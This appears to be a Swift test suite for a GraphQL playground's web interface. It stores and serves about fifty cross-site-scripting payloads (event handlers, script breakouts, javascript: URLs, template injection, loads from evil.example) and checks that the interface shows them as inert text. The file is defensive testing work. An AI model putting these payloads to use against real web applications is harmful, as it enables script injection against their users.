import Foundation
import Testing

extension PlaygroundTests {
    @MainActor
    @Suite("Text that would be more")
    struct HostileTextTests {
        /// What would do something if it became markup, an address or code.
        private static let texts: [String] = {
            let act = "window.pwned=1"
            let handlers = [
                "<img src=x onerror=\(act)>", "<img src=\"x\" onerror=\"\(act)\">", "<svg onload=\(act)>",
                "<svg/onload=\(act)>", "<body onload=\(act)>", "<iframe onload=\(act)>",
                "<input autofocus onfocus=\(act)>",
                "<details open ontoggle=\(act)>", "<video src=x onerror=\(act)>", "<audio src=x onerror=\(act)>",
                "<select autofocus onfocus=\(act)>", "<textarea autofocus onfocus=\(act)>", "<marquee onstart=\(act)>",
                "<a href=x onmouseover=\(act)>over</a>", "<div style=animation-name:x onanimationstart=\(act)>",
                "<object data=x onerror=\(act)>", "<embed src=x onload=\(act)>",
                "<math><mi onclick=\(act)>x</mi></math>",
            ]
            let scripts = [
                "<script>\(act)</script>", "</script><script>\(act)</script>", "\"><script>\(act)</script>",
                "'><script>\(act)</script>", "</textarea><script>\(act)</script>", "</title><script>\(act)</script>",
                "</style><script>\(act)</script>", "<scr<script>ipt>\(act)</script>",
                "<SCRIPT SRC=//evil.example/x.js>",
                "<script/src=data:text/javascript,\(act)>", "--><script>\(act)</script>", "]]><script>\(act)</script>",
                "<svg><script>\(act)</script></svg>", "<template><script>\(act)</script></template>",
            ]
            let addresses = [
                "javascript:\(act)", "JaVaScRiPt:\(act)", "java&Tab;script:\(act)",
                "data:text/html,<script>\(act)</script>",
                "<a href=javascript:\(act)>x</a>", "<iframe src=javascript:\(act)>",
                "<form action=javascript:\(act)><button>x",
                "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
                "<meta http-equiv=refresh content=0;url=//evil.example>", "<img src=//evil.example/x.png>",
                "<style>@import '//evil.example/x.css'</style>",
            ]
            let code = [
                "${\(act)}", "{{\(act)}}", "{{constructor.constructor('\(act)')()}}", "';\(act);'", "\";\(act);\"",
                "__proto__", "&lt;img src=x onerror=\(act)&gt;",
            ]
            return handlers + scripts + addresses + code
        }()

        /// Elements that none of the page's own are.
        private static let strangers =
            "document.querySelectorAll('img,iframe,object,embed,video,audio,base,meta[http-equiv],marquee,math,style,"
            + "script:not([src=\"/main.js\"]),link[href*=evil],[onerror],[onload],[onfocus],[onclick]').length"

        @Test("Fifty stored texts that would be more are shown as text, wherever answers are shown")
        func stored() throws {
            #expect(Self.texts.count >= 50)
            try Visit.pay(on: RunningServer(["--demo"])) { visit in
                let page = visit.page
                for text in Self.texts {
                    let created = try visit.ask(
                        "mutation($i: CreateCaseInput!) { createCase(input: $i) { case { title } userErrors { message } } }",
                        as: "PARTNER_USER", ["i": ["title": "t " + text, "summary": text, "category": "SUPPORT"]])
                    let payload = created["createCase"] as? [String: Any]
                    try #require((payload?["case"] as? [String: Any])?["title"] != nil, "\(text): \(created)")
                }
                let data = try visit.ask(
                    "{ cases(first: \(Self.texts.count)) { nodes { title summary } } }", as: "PARTNER_USER")
                let nodes = (data["cases"] as? [String: Any])?["nodes"] as? [[String: String]] ?? []
                let stored = nodes.compactMap { $0["title"] }
                #expect(stored.count == Self.texts.count && stored.allSatisfy { $0.hasPrefix("t ") })
                // High enough for all rows to be drawn at once.
                try page.resize(width: 1280, height: 9000)
                try visit.write("{ cases(first: \(Self.texts.count)) { nodes { title summary } } }")
                try visit.run()
                let shown = try page.texts(of: "#json .row")
                for text in stored {
                    #expect(shown.contains { $0.contains("title: " + Page.quoted(text)) }, "\(text)")
                }
                try page.click("#tab-table")
                try page.wait(until: "document.querySelectorAll('#table tbody tr').length >= \(stored.count)")
                let cells = Set(try page.texts(of: "#table tbody td"))
                for text in stored { #expect(cells.contains(text), "\(text)") }
                try page.click("#compare")
                try page.wait(until: "document.querySelectorAll('#comparison tbody tr').length > \(stored.count)")
                // The texts as parts of documents: in the editor, its tab, the history and the list of problems.
                for text in [Self.texts[0], Self.texts[18], Self.texts[44]] {
                    try visit.write("query N { companyLookup(search: \(Page.quoted(text))) { id nonsense } }")
                    try visit.run()
                }
                page.forgive("400")
                try page.click("[data-panel=history]")
                try page.wait(until: "document.querySelector('#history .entry')")
                #expect(try page.evaluate(Self.strangers) as? Int == 0)
                #expect(try page.evaluate("window.pwned") == nil)
            }
        }

        @Test("A schema and an answer that want to be more are shown as text, too")
        func served() throws {
            let act = "<img src=x onerror=window.pwned=1>"
            let schema = #"""
                directive @allow(roles: [Role!]!) on OBJECT | FIELD_DEFINITION
                enum Role { ANONYMOUS PARTNER_USER AGENT }
                """
                The root. \#(act)
                """
                type Query {
                  "A field. \#(act)"
                  viewer("An argument. \#(act)" a: String = "\#(act)"): String @deprecated(reason: "Old. \#(act)")
                }
                """#
            try Visit.pay(withSchema: schema) { visit in
                let page = visit.page
                try page.click("[data-panel=docs]")
                try page.click("#docs-search")
                try page.type("viewer")
                try page.wait(for: "viewer", in: "#docs .hits")
                try page.press("ArrowDown", "Enter")
                try page.wait(for: act, in: "#docs .scroll")
                try visit.write("{ viewer }")
                try page.press("ArrowLeft", "ArrowLeft", "ArrowLeft", "Control+i")
                try page.wait(for: act, in: "#hover")
                let answer =
                    #"{"data":{"\#(act)":"\#(act)"},"errors":[{"message":"\#(act)","path":["\#(act)"],"extensions":{"code":"\#(act)"}}],"extensions":{"requestId":"\#(act)"}}"#
                try page.answer("/graphql", with: Page.Answer(body: answer))
                try visit.run()
                try page.wait(for: act, in: "#panel-json .errors")
                #expect(try page.text(of: "#status").contains(act))
                #expect(try page.evaluate(Self.strangers) as? Int == 0)
                #expect(try page.evaluate("window.pwned") == nil)
            }
        }
    }
}
